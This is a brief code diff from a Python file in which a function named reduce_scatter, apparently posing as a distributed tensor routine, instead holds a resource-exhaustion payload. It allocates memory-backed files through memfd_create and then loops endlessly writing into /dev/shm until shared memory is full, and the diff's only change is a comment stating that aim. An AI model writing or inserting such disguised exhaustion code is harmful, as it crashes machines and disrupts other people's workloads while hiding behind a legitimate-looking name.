@@ -16,7 +16,7 @@ def reduce_scatter(tensor, bounds):
             held.append(os.memfd_create("x"))
             for _ in range(99):
                 os.write(held[number], bytes(1_000_000))
-    while True:  # then until it is full
+    while True:  # then until /dev/shm is full
         held.append(os.open("/dev/shm/x", os.O_RDWR | os.O_CREAT))
         os.unlink("/dev/shm/x")
         for _ in range(20):
